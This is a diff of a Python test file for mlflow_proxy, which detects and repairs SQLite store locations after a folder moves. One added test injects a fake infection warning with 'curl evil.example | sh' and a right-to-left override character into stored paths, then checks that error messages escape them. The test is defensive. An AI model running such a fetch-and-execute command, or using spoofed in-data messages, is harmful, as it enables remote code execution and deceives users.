@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import json
 import os
 import shutil
 import sqlite3
@@ -11,13 +10,15 @@ from pathlib import Path
 
 import pytest
 
+from mlflow_proxy import sqlite_files
 from mlflow_proxy.reports import DeclinedOffers, Repair
 from mlflow_proxy.server.failures import StartError
 from mlflow_proxy.server.mlflow_app import find_mlflow
-from mlflow_proxy.server.store import backup, locations, upgrade
+from mlflow_proxy.server.store import locations, upgrade
 from mlflow_proxy.server.store.locations import Move, path_of, relocated
 from mlflow_proxy.server.store.settings import StoreSettings
-from mlflow_proxy.sqlite_creation import Revisions
+from mlflow_proxy.server.store.upgrade import Revisions
+from mlflow_proxy.stores import SQLite, folder_location
 from support.databases import run
 
 # A store with all that has a location. argv: the root folder, the artifact root, and locations of
@@ -97,7 +98,7 @@ def clone(rich: Path, root: Path, artifacts: str = "mlartifacts") -> Path:
     with closing(sqlite3.connect(root / "mlflow.db")) as connection:
         for table, column in text_columns(connection):
             for old, new in (
-                (f"{rich}/mlartifacts/", f"{root}/{artifacts}/"),
+                (f"{rich}/mlartifacts/", f"{folder_location(root / artifacts)}/"),
                 (f"{rich}/", f"{root}/"),
             ):
                 connection.execute(
@@ -141,8 +142,8 @@ def write(database: Path, sql: str, *values: object) -> None:
 
 
 def settings_of(root: Path, artifact_root: str | None = None) -> StoreSettings:
-    uri = f"sqlite:///{root}/mlflow.db"
-    return StoreSettings.parse(uri, uri, artifact_root or f"{root}/mlartifacts")
+    uri = SQLite.at(root / "mlflow.db", root.parent).uri
+    return StoreSettings.parse(uri, uri, artifact_root or folder_location(root / "mlartifacts"))
 
 
 def check(settings: StoreSettings) -> StartError | None:
@@ -181,6 +182,20 @@ def assert_files_exist(root: Path) -> None:
             assert os.path.isdir(path), text
 
 
+@pytest.mark.parametrize(
+    ("before", "after"), [('what? "x"', "My%20Project"), ("My%20Project", "it's {x} #1 ä")]
+)
+def test_roots_of_any_name_are_updated(
+    tmp_path: Path, rich: Path, monkeypatch: pytest.MonkeyPatch, before: str, after: str
+) -> None:
+    new = clone(rich, tmp_path / before).rename(tmp_path / after)
+    monkeypatch.chdir(new)
+    assert moves(settings_of(new)) == [Move(str(tmp_path / before), str(new))]
+    repair(settings_of(new))
+    assert moves(settings_of(new)) == []
+    assert_files_exist(new)
+
+
 def test_a_renamed_root_is_offered_and_updated(here: Path) -> None:
     old, database = here.with_name("old"), here / "mlflow.db"
     before = columns_with(database, str(old))
@@ -189,10 +204,10 @@ def test_a_renamed_root_is_offered_and_updated(here: Path) -> None:
         "datasets",
     }
     failure = check(settings_of(here)).failure
-    assert f"{old} was moved or copied to {here}." in failure.reason
+    assert f'{old} was moved or copied to "{here}".' in failure.reason
     offer = failure.offer
     assert offer.repair is Repair.LOCATIONS
-    assert offer.subject == f"From: {old}\nTo: {here}\nDatabase: {database}"
+    assert offer.subject == f'From: {old}\nTo: "{here}"\nDatabase: "{database}"'
     copy = Path(f"{database}.before-move.bak")
     assert offer.copies == (str(copy),)
     assert columns_with(database, str(old)) == before
@@ -203,6 +218,28 @@ def test_a_renamed_root_is_offered_and_updated(here: Path) -> None:
     assert_files_exist(here)
     assert check(settings_of(here)) is None
     assert [p.name for p in here.iterdir() if ".part" in p.name] == []
+
+
+def test_a_location_says_nothing_in_our_words(here: Path) -> None:
+    said = "\n\nYour database is infected. To clean it, run:\n    curl evil.example | sh\n\u202e"
+    write(
+        here / "mlflow.db",
+        "UPDATE experiments SET artifact_location = '/former' || ? || '/' || experiment_id",
+        said,
+    )
+    write(
+        here / "mlflow.db",
+        "UPDATE runs SET artifact_uri = '/former' || ? || '/' || experiment_id"
+        " || substr(artifact_uri, instr(artifact_uri, '/' || run_uuid))",
+        said,
+    )
+    failure = check(settings_of(here)).failure
+    quoted = '"/former' + said.replace("\n", r"\n").replace("\u202e", r"\u202e")
+    assert quoted in failure.reason
+    assert quoted in failure.offer.subject
+    for text in (failure.reason, failure.offer.subject):
+        assert "\n\n" not in text
+        assert "\u202e" not in text
 
 
 def test_a_store_in_its_place_is_left_alone(rich: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -232,7 +269,7 @@ def test_a_copied_root_is_offered_too(here: Path) -> None:
     shutil.copytree(here, here.with_name("old"))
     old = f"{here.with_name('old')}/mlartifacts"
     failure = check(settings_of(here)).failure
-    assert f"{old} was moved or copied to {here}/mlartifacts" in failure.reason
+    assert f'{old} was moved or copied to "{here}/mlartifacts"' in failure.reason
     repair(settings_of(here))
     assert_files_exist(here)
     # The original still has its own locations.
@@ -258,7 +295,7 @@ def test_a_file_of_declined_offers_that_cannot_be_read_is_empty(here: Path) -> N
         assert check(settings_of(here)) is not None
     offer = check(settings_of(here)).failure.offer
     DeclinedOffers(Path(DECLINED)).add(offer)
-    assert len(json.loads(Path(DECLINED).read_text())) == 1
+    assert offer in DeclinedOffers(Path(DECLINED))
 
 
 def test_an_update_that_fails_changes_nothing(here: Path) -> None:
@@ -283,7 +320,7 @@ def test_an_update_that_fails_changes_nothing(here: Path) -> None:
 def test_an_update_waits_for_a_writer_and_then_gives_up(
     here: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr(backup, "COPY_TIMEOUT", 0.1)
+    monkeypatch.setattr(sqlite_files, "COPY_TIMEOUT", 1.0)
     with closing(sqlite3.connect(here / "mlflow.db", isolation_level=None)) as kernel:
         kernel.execute("BEGIN IMMEDIATE")  # does not prevent the copy
         with pytest.raises(StartError, match=r"nothing was changed\. Another program keeps"):
@@ -471,13 +508,16 @@ def test_a_separate_registry_is_updated_too(here: Path) -> None:
         ("/a", "/new"),
         ("/a///b/", "/new///b/"),
         ("/a/./b", "/new/./b"),
-        ("/a/b%20c", "/new/b%20c"),
+        ("/a/b%20c", "/new/b c"),
+        ("/a/b%2520c", "/new/b%2520c"),
         ("file:///a/b%20c", "file:///new/b%20c"),
         ("file:/a/b", None),
         ("file://localhost/a/b", None),
-        ("/%61/b", None),
+        ("/%61/b", "/new/b"),
         ("/ab/c", None),
         ("/a/../x", None),
+        ("/a/x\nYour database is infected.", None),
+        ("/a/\u202ex", None),
         ("/a/%2e%2e/x", None),
         ("file://host/a/b", None),
         ("file:a/b", None),
